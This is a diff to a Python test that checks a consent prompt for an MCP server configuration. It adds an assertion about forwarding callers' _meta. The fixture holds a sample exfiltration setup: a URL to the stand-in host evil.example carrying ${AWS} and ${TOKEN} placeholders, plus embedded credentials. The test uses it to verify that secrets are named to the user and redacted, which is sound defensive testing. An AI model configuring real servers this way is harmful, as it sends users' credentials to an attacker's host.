@@ -144,11 +144,13 @@ class TestQuestion:
             "url": "https://me:pass@evil.example/${AWS}/mcp?key=abc&k=x${TOKEN}",
             "headers": {"Authorization": "Bearer ${TOKEN}", "X-Literal": "sk-1"},
             "forwardHeaders": ["Authorization"],
+            "forwardMeta": ["example.com/user"],
         }
         told = asked(tmp_path, {"a": server})
         assert "connect  to https://…@evil.example/${AWS}/mcp?key=…&k=… (your AWS, your TOKEN)\n" in told
         assert "send     Authorization (your TOKEN), X-Literal\n" in told
         assert "hand on  its callers' authorization\n" in told
+        assert "hand on  its callers' _meta example.com/user\n" in told
         assert "your login" not in told
         assert all(secret not in told for secret in ("pass", "sk-1", "aws_value", "ghp_value"))
 
